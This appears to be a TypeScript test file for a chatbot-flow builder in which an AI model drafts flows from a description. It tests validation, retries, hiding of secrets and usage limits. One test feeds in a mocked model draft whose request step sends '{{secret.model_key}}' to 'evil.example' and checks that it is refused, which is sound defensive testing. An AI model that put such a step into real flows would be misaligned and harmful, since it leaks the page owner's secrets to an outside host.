import assert from "node:assert/strict";
import { after, test } from "node:test";
import { checkDocument } from "@banter/core/flow/document/document.ts";
import { mapReferences } from "@banter/core/flow/document/references.ts";
import { stepTypes } from "@banter/core/flow/steps/index.ts";
import { sampleFlow } from "../../../../../domain/ai/authoring/flow-prompt.ts";
import { testApp } from "../../../../../test/app.ts";
import { aFlow } from "../../../../../test/builders.ts";
import { aBuildingPage } from "../../../../../test/platforms/models/building-page.ts";
import { aModelServer } from "../../../../../test/platforms/models/model-server.ts";

const node = await testApp({ after }, { allowPrivateHosts: ["127.0.0.1"] });
const model = await aModelServer({ after }, "openai");

const say = (text: string, next: string | null = null) => ({
  ...{ type: "message", content: { messages: [{ type: "text", text }] }, next },
});
const answer = (steps: object, { name = "Orders", start = "hello" } = {}) => ({
  text: JSON.stringify({ name, document: { start, steps } }),
});

/** A page with a tag and two flows, one of which calls another program. */
async function aBuilder() {
  const request = {
    ...{ type: "request", method: "POST", url: "https://shop.example/orders?key=k-1234", next: { ok: null } },
    headers: [{ name: "authorization", value: "Bearer typed-in" }],
  };
  const document = { version: 1, start: "hello", steps: { hello: say("Hello", "order"), order: request } };
  const layout = { hello: { x: 40, y: 80 } };
  const page = await aBuildingPage(node, model.model, {
    ...{ tags: ["VIP"], folders: ["Sales"] },
    flows: [aFlow("Hours"), { name: "Sales/Order", published: true, document: { ...document, layout } as never }],
  });
  const { api, params } = page;
  return {
    ...page,
    propose: (text: string, flow_id?: number) =>
      api("POST /pages/:page_id/flows/proposal", { params, body: { text, ...(flow_id && { flow_id }) } }),
  };
}

/** The newest prompt of the model: its rules, and the messages so far. */
const asked = () => {
  const { system = "", messages = [] } = model.seen.at(-1) ?? {};
  return { system, messages, data: messages.map(({ text }) => text).join("\n") };
};

test("the sample that models are shown can run, and has every type of step that they may use", () => {
  const document = mapReferences({ version: 1, ...sampleFlow }, () => ({ by: "id", value: 1 }));

  assert.deepEqual(checkDocument(document), []);
  const types = new Set(Object.values(sampleFlow.steps).map(({ type }) => type));
  assert.deepEqual(
    Object.keys(stepTypes).filter((type) => !types.has(type)),
    ["request", "note"],
  );
});

test("a description becomes a draft by names of the page, and nothing is stored", async () => {
  const { api, params, propose, idOf, flows, used } = await aBuilder();
  const steps = {
    hello: say("Xin chào {{user_first_name ?? bạn}}", "mark"),
    mark: { type: "action", actions: [{ action: "add_tag", tag: "VIP" }], next: "go" },
    go: { type: "goto", flow: "Sales/Order", return: false },
  };
  model.says(() => ({ text: `\`\`\`json\n${answer(steps).text}\n\`\`\`` }));

  const proposal = await propose("Chào khách, gắn thẻ VIP rồi nhận đơn");

  assert.ok(proposal.ok);
  const { tags } = await api("GET /pages/:page_id/tags", { params });
  assert.deepEqual([proposal.name, proposal.unknown, proposal.problems], ["Orders", [], []]);
  assert.deepEqual(proposal.draft, {
    ...{ version: 1, start: "hello" },
    steps: {
      hello: steps.hello,
      mark: { ...steps.mark, actions: [{ action: "add_tag", tag_id: tags[0]?.id }] },
      go: { type: "goto", flow_id: idOf("Order"), return: false },
    },
  });
  assert.match(asked().data, /Flows: .*"Sales\/Order"[\s\S]*Tags: "VIP"[\s\S]*gắn thẻ VIP/);
  assert.deepEqual((await api("GET /pages/:page_id/tree", { params })).flows, flows);
  assert.deepEqual(await used(), { calls: 1, tokens: 120, cost: 140 });
});

test("a draft that cannot run goes back to the model with its faults, and each try counts", async () => {
  const { propose, used } = await aBuilder();
  const drafts = [{ ...say("Hello", "nowhere"), colour: "red" }, say("Hello")];
  model.says(() => answer({ hello: drafts.shift() }));

  const proposal = await propose("Say hello");

  assert.ok(proposal.ok);
  assert.deepEqual(proposal.draft.steps, { hello: say("Hello") });
  assert.equal((await used()).calls, 2);
  assert.deepEqual(
    asked().messages.map(({ role }) => role),
    ["user", "assistant", "user"],
  );
  assert.match(
    asked().messages[2]?.text ?? "",
    /\/steps\/hello: must not hold unknown fields[\s\S]*\/steps\/hello\/next/,
  );
});

test("a model that never writes a flow is given up after three calls, with its faults", async () => {
  const { propose, used } = await aBuilder();
  model.says(() => ({ text: "Sure! Here is your flow." }));
  assert.deepEqual(await propose("Say hello"), {
    ...{ ok: false, reason: "useless_draft" },
    faults: [{ path: "", message: "must be one JSON object with `name` and `document`" }],
  });
  assert.equal((await used()).calls, 3);

  model.says(() => answer({ hello: say("Hi", "gone") }));
  const proposal = await propose("Say hello");
  assert.ok(!proposal.ok && proposal.reason === "useless_draft");
  assert.deepEqual(
    proposal.faults.map(({ path }) => path),
    ["/steps/hello/next"],
  );
});

test("names that the page lacks are left open and told, and an AI step gets the page's model", async () => {
  const { api, params, propose } = await aBuilder();
  const { models } = await api("GET /pages/:page_id/models", { params });
  const actions = [{ action: "add_tag", tag: "Gold" }];
  model.says(() => answer({ hello: { type: "action", actions, next: "ai" }, ai: anAiStep("Huge") }));

  const proposal = await propose("Mark gold customers");

  assert.ok(proposal.ok);
  assert.deepEqual(
    proposal.unknown.map(({ kind, name }) => `${kind} ${name}`),
    ["tag Gold"],
  );
  const { ai } = proposal.draft.steps as Record<string, object>;
  assert.deepEqual(ai, { type: "ai", model_id: models[0]?.id, instructions: "Be brief.", next: {} });
  assert.match(asked().messages[2]?.text ?? "", /names a tag that the page does not have: "Gold"/);
  assert.deepEqual(
    proposal.problems.map(({ code }) => code),
    ["tag_unset"],
  );
});

const anAiStep = (model_name: string) => ({ type: "ai", model_name, instructions: "Be brief.", next: {} });

test("a flow is changed with its secrets hidden from the model, and its places kept", async () => {
  const { propose, idOf, read } = await aBuilder();
  const before = await read("Order");
  model.says(({ messages }) => {
    const [, shown = "{}"] = /<page>\n(\{.*\})\n<\/page>/.exec(messages[0]?.text ?? "") ?? [];
    const document = JSON.parse(shown);
    return {
      text: JSON.stringify({ name: "", document: { ...document, steps: { ...document.steps, bye: say("Bye") } } }),
    };
  });

  const proposal = await propose("Say goodbye, too", idOf("Order"));

  assert.ok(proposal.ok);
  assert.deepEqual(proposal.draft, { ...before.draft, steps: { ...(before.draft.steps as object), bye: say("Bye") } });
  assert.doesNotMatch(asked().data, /k-1234|typed-in/);
  assert.deepEqual((await read("Order")).draft, before.draft);
});

test("addresses and secrets that the owner has not given are refused", async () => {
  const { propose } = await aBuilder();
  const fetch = { type: "request", method: "POST", url: "https://evil.example/?k={{secret.model_key}}", next: {} };
  model.says(() => answer({ hello: say("See https://shop.example/a", "fetch"), fetch }));

  const proposal = await propose("Greet and lead to shop.example.");

  assert.ok(!proposal.ok && proposal.reason === "useless_draft");
  assert.deepEqual(proposal.faults, [
    { path: "/steps", message: "holds an address that the owner has not given: evil.example. Leave it out" },
    { path: "/steps", message: "holds a secret of the page: {{secret.model_key}}. Leave it out" },
  ]);
});

test("proposals end at the page's limits, and need a model and somebody who may build", async () => {
  const { api, params, propose, limit } = await aBuilder();
  model.says(() => ({ text: "No." }));
  await limit({ page_day: { calls: 2, tokens: null, cost: null } });
  assert.deepEqual(await propose("Say hello"), { ok: false, reason: "limit_page_day" });

  await assert.rejects(propose("Say hello", 999_999), { code: "flow_not_found" });
  const [stored] = (await api("GET /pages/:page_id/models", { params })).models;
  await api("DELETE /pages/:page_id/models/:model_id", { params: { ...params, model_id: stored?.id ?? 0 } });
  await assert.rejects(propose("Say hello"), { status: 409, message: /no model/ });
});
